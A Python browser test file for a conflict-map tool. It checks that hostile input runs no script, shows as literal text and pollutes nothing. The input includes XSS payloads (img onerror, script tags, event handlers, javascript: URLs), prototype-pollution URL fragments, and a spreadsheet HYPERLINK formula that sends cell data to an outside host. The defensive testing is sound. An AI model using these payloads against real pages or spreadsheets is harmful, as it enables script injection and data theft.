"""Hostile text from every context layer and option, and hostile shared links, in Chromium.

Complements ``test_map_page.py::test_hostile_text_runs_no_script_and_shows_literally``
(event fields): here the payload of ``tests/test_hostile.py`` sits in every text property
of every context layer and in the title and description at once; the page must run none of
it and show it as text. Shared links are input too: a hostile ``#hide=__proto__`` or a
malformed escape must leave a working page.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from geo import _browser
from geo.cli import main
from geo.context import SHIPPED
from geo.worldview import WORLDVIEWS

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parents[2]
CONTEXT = ROOT / "tests" / "data" / "context"
PWNED = "window.__pwned = (window.__pwned || 0) + 1"
ENCODED_LINE = [[70.0, 34.0], [69.9985, 34.0974], [70.0974, 34.0957], [70.2, 34.2]]
TEXT = (
    'T {{ 6*7 }} {# c <img src=x onerror="'
    + PWNED
    + '"> </script><script>'
    + PWNED
    + '</script> " onmouseover="'
    + PWNED
    + '" javascript:'
    + PWNED
)


def _real_errors(rec) -> list[str]:
    return rec.real_errors()


@pytest.fixture(scope="module")
def hostile_context_map(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("ctx")
    for role in ("border", "provinces", "crossings", "countries", "events"):
        shutil.copy(CONTEXT / SHIPPED[role], d / SHIPPED[role])
    shutil.copy(ROOT / "data" / SHIPPED["cities"], d / SHIPPED["cities"])
    keep = {"countries": {"country"}, "provinces": {"country"}}  # codes the layers need
    for role in ("border", "provinces", "crossings", "countries", "cities"):
        path = d / SHIPPED[role]
        doc = json.loads(path.read_text(encoding="utf-8"))
        for f in doc["features"]:
            for key, value in list(f["properties"].items()):
                if isinstance(value, str) and key not in keep.get(role, ()):
                    f["properties"][key] = f"{value} {TEXT}"
            f["properties"].setdefault("attribution", TEXT)
        path.write_text(json.dumps(doc), encoding="utf-8")
    out = d / "hostile.html"
    args = [
        "build",
        "--events",
        str(d / "events.geojson"),
        "--out",
        str(out),
        "--border",
        str(d / SHIPPED["border"]),
        "--provinces",
        str(d / SHIPPED["provinces"]),
        "--crossings",
        str(d / SHIPPED["crossings"]),
        "--countries",
        str(d / SHIPPED["countries"]),
        "--cities",
        str(d / SHIPPED["cities"]),
        "--title",
        TEXT,
        "--description",
        TEXT,
    ]
    assert main(args) == 0
    return out


def test_context_text_runs_no_script_and_shows_literally(open_map, hostile_context_map) -> None:
    rec = open_map(hostile_context_map)
    page = rec.page
    assert page.title() == TEXT
    assert TEXT in page.locator(".geo-title").inner_text()
    # open the tooltip of every context shape and marker, as hovering each would
    for name in ("Provinces", "Border crossings", "Durand Line", "Border belt (50 km)"):
        page.evaluate("n => conflictMap.setLayerVisible(n, true)", name)
    shown = page.evaluate(
        """() => {
            const out = [];
            conflictMap.map.eachLayer(g => {
                if (!(g.getTooltip && g.getTooltip() && g.eachLayer)) { return; }
                g.eachLayer(child => {
                    try {
                        const at = child.getLatLng ? child.getLatLng() : child.getBounds().getCenter();
                        child.fire("mouseover", {latlng: at}, true);  // as a pointer would
                        const el = g.getTooltip().getElement();
                        if (el) { out.push(el.textContent); }
                        g.closeTooltip();
                    } catch (e) { /* a shape Leaflet cannot place a tooltip on */ }
                });
            });
            return out;
        }"""
    )
    assert any(TEXT in t for t in shown), shown[:3]
    assert page.locator(".leaflet-tooltip img, .leaflet-tooltip script").count() == 0
    credits = page.locator(".leaflet-control-attribution").inner_text()
    assert TEXT in credits or TEXT in page.locator("body").inner_text()
    ids = page.evaluate("conflictMap.events()")
    assert page.evaluate("id => conflictMap.openPopup(id)", ids[0]) is True
    page.wait_for_timeout(200)
    assert page.evaluate("window.__pwned || 0") == 0
    assert rec.dialogs == []
    assert _real_errors(rec) == []


def test_encoded_geometry_of_any_characters_draws_the_line(open_map, tmp_path) -> None:
    # a line whose encoded drawing holds {{, a backslash, a backtick and a pipe (as in
    # tests/test_hostile.py test_context_geometry_is_written_as_data): the page decodes it
    # to its very vertices
    line = tmp_path / "line.geojson"
    feature = {
        "type": "Feature",
        "properties": {"name": TEXT},
        "geometry": {"type": "LineString", "coordinates": ENCODED_LINE},
    }
    line.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    out = tmp_path / "line.html"
    events = CONTEXT / SHIPPED["events"]
    assert main(["build", "--events", str(events), "--out", str(out), "--border", str(line)]) == 0
    rec = open_map(out)
    drawn = rec.page.evaluate(
        """() => Object.values(window)
            .filter(layer => layer instanceof L.GeoJSON && layer.options.filter)
            .flatMap(layer => layer.getLayers().map(l => l.feature))
            .filter(f => f.geometry.type === "LineString")
            .filter(f => !kashmir.includes(f.properties.name))
            .map(f => f.geometry)""".replace(
            "kashmir", json.dumps(["Line of Control", WORLDVIEWS["neutral"].lac_label])
        )
    )
    assert drawn == [{"type": "LineString", "coordinates": ENCODED_LINE}]
    assert rec.page.evaluate("window.__pwned || 0") == 0
    assert _real_errors(rec) == []


def test_basemap_names_are_text(open_map, hostile_context_map) -> None:
    """Town and province names (the offline basemap's labels, placed by page.js) come from
    the data: set as text, never as markup."""
    rec = open_map(hostile_context_map)
    page = rec.page
    page.wait_for_function(
        "document.querySelector('.folium-map').dataset.geoBasemap === 'offline'", timeout=15000
    )
    names = page.evaluate("conflictMap.labels()")
    # the worldview's names of disputed Kashmir come from its table, not from the data
    territories = set(WORLDVIEWS["neutral"].labels.values())
    for kind in ("major", "town", "province"):
        texts = [n["text"] for n in names if n["kind"] == kind and n["text"] not in territories]
        assert texts and all(t.endswith(f" {TEXT}") for t in texts), kind
    shown = page.locator(".geo-province-label, .geo-city-label").all_text_contents()
    shown = [t for t in shown if t not in territories]
    assert shown and all(t.endswith(f" {TEXT}") for t in shown)
    assert page.locator(".geo-label img, .geo-label script, .geo-label *").count() == 0
    page.wait_for_timeout(200)
    assert page.evaluate("window.__pwned || 0") == 0
    assert rec.dialogs == []
    assert _real_errors(rec) == []


@pytest.mark.parametrize(
    "fragment",
    [
        "#hide=__proto__",
        "#hide=constructor,toString,__proto__&start=2022-01-01&end=2022-12-31",
        "#start=%E0%A4%A&end=%zz&hide=%",
        "#view=1e999,-1e999,99&start=9999-99-99&end=0000-00-00",
        "#__proto__=x&constructor=y&hide=Battles",
        # the explorer's keys: filters, playback, density, each checked against known values
        "#actor=__proto__,constructor&sub=%zz&prov=toString&minfat=-1"
        "&step=__proto__&speed=99&mode=constructor&len=7&measure=__proto__&show=__proto__,toString",
        "#minfat=99999999999&q=" + "x" * 300 + "&actor=%E0%A4%A&show=Density%3A%20heat",
    ],
)
def test_hostile_links_leave_a_working_page(browser, tmp_path, fragment) -> None:
    out = tmp_path / "m.html"
    assert main(["build", "--events", str(CONTEXT / "events.geojson"), "--out", str(out)]) == 0
    page = browser.new_page(viewport={"width": 1000, "height": 700})
    rec = _browser.PageRecorder(page)
    try:
        page.goto(out.resolve().as_uri() + fragment)
        page.wait_for_function(_browser.READY, timeout=30000)
        ids = page.evaluate("conflictMap.events()")
        assert len(ids) == 6
        page.evaluate("conflictMap.setDateRange('2021-01-01', '2023-12-31')")
        assert (
            len(page.evaluate("conflictMap.visibleEventIds()")) >= 5 - ("Battles" in fragment) * 3
        )
        assert page.evaluate("id => conflictMap.openPopup(id)", ids[0]) in (True, False)
        assert page.evaluate("Object.keys(Object.prototype).length") == 0  # nothing polluted
        f = page.evaluate("conflictMap.filter()")
        assert f["actors"] == [] and f["subEventTypes"] == [] and f["provinces"] == []
        assert page.evaluate("conflictMap.playback().speed") == 1
        assert _real_errors(rec) == []
    finally:
        page.close()


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_explorer_text_is_shown_literally_and_exported_safely(open_map, tmp_path) -> None:
    """Actor names in the filter list, entries of a stacked popup, downloaded CSV cells."""
    features = []
    for k, actor in enumerate((TEXT, FORMULA, "+" + TEXT)):
        props = {
            "event_id": f"h{k}",
            "date_start": "2022-05-01",
            "event_type": "Battles",
            "sub_event_type": "Armed clash",
            "actor1": actor,
            "country": "AFG",
            "province": TEXT,
            "location": "-" + TEXT,
            "geo_precision": "exact",
            "summary": "@" + TEXT,
            "sources": [{"name": "=" + TEXT, "url": "javascript:" + PWNED}],
        }
        point = {"type": "Point", "coordinates": [69.9, 33.35]}  # one spot: a stack
        features.append({"type": "Feature", "geometry": point, "properties": props})
    src = tmp_path / "h.geojson"
    src.write_text(json.dumps({"type": "FeatureCollection", "features": features}), "utf-8")
    out = tmp_path / "h.html"
    assert main(["build", "--events", str(src), "--out", str(out)]) == 0
    rec = open_map(out)
    page = rec.page
    page.get_by_role("button", name="Filter").click()
    actors = page.locator(".geo-filter-actors label").all_inner_texts()
    assert TEXT in actors and FORMULA in actors
    assert page.locator(".geo-filters img, .geo-filters script").count() == 0
    page.get_by_role("button", name="Filter", exact=True).click()  # the panel closes
    pos = page.evaluate("conflictMap.screenPosition('h0')")
    box = page.locator(".folium-map").bounding_box()
    page.mouse.click(box["x"] + pos["x"], box["y"] + pos["y"])
    stack = page.locator(".geo-stack")
    stack.wait_for()
    assert stack.locator("details").count() == 3
    stack.locator("details[data-event-id='h0'] summary").click()
    card = stack.locator("details[data-event-id='h0'] .geo-popup")
    assert ("@" + TEXT) in card.inner_text()
    assert stack.locator("img, script").count() == 0 and stack.locator("a").count() == 0
    page.evaluate("n => conflictMap.setFilter({actors: [n]})", TEXT)
    assert page.evaluate("conflictMap.visibleEventIds()") == ["h0"]
    assert page.evaluate("conflictMap.setFilter({actors: []}).actors") == []
    text = page.evaluate("conflictMap.exportData('csv').text")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["actor1"] for r in rows] == [TEXT, "'" + FORMULA, "'+" + TEXT]
    assert all(r["summary"] == "'@" + TEXT and r["location"] == "'-" + TEXT for r in rows)
    assert all(r["source_names"] == "'=" + TEXT for r in rows)
    name = page.evaluate("conflictMap.exportData('geojson').name")
    assert name.endswith(".geojson") and "/" not in name and "<" not in name
    page.wait_for_timeout(200)
    assert page.evaluate("window.__pwned || 0") == 0
    assert rec.dialogs == [] and _real_errors(rec) == []


def test_annotation_texts_are_text(open_map, tmp_path) -> None:
    """Callouts (--annotate, --note): their text is set as text in the map, the screen
    readers' list and the event list, never as markup."""
    from geo.render.annotations import _clean, wrap_text

    half = len(TEXT) // 2
    parts = (TEXT[:half], TEXT[half:])
    out = tmp_path / "notes.html"
    args = ["build", "--events", str(CONTEXT / "events.geojson"), "--out", str(out),
            "--annotate", f"AFG-2023-001={parts[0]}", "--note", f"70.9,34.9={parts[1]}@se"]  # fmt: skip
    assert main(args) == 0
    rec = open_map(out)
    page = rec.page
    notes = page.evaluate("conflictMap.annotations()")
    assert [n["text"] for n in notes] == [wrap_text(_clean(p)) for p in parts]
    assert all(n["shown"] for n in notes), notes
    assert page.locator(".geo-note *, .geo-notes-live img, .geo-notes-live script").count() == 0
    live = page.locator(".geo-notes-live").text_content()
    assert all(wrap_text(_clean(p)).replace("\n", " ") in live for p in parts)
    page.locator(".geo-list-toggle").click()
    entries = page.locator(".geo-list-note").all_text_contents()
    assert entries == ["Annotation: " + wrap_text(_clean(parts[0])).replace("\n", " ")]
    assert page.locator(".geo-list img, .geo-list script").count() == 0
    page.wait_for_timeout(200)
    assert page.evaluate("window.__pwned || 0") == 0
    assert rec.dialogs == []
    assert _real_errors(rec) == []


def test_highlight_text_runs_no_script_and_shows_literally(open_map, tmp_path) -> None:
    """--highlight actor=… is stated in the legend's switch and the caption: as text."""
    out = tmp_path / "hl.html"
    args = ["build", "--events", str(CONTEXT / "events.geojson"), "--out", str(out), "-q"]
    assert main([*args, "--highlight", f"actor={TEXT}", "--highlight", "type=Battles"]) == 0
    rec = open_map(out)
    page = rec.page
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    described = f"actor {TEXT} or type Battles"
    label = page.locator(".geo-legend .geo-highlight-switch").text_content()
    assert label == f"In colour: {described}"
    assert f"in colour: {described} (3 of 6)" in page.evaluate("conflictMap.caption()")
    assert page.locator(".geo-legend img, .geo-legend script").count() == 0
    assert rec.real_errors() == []
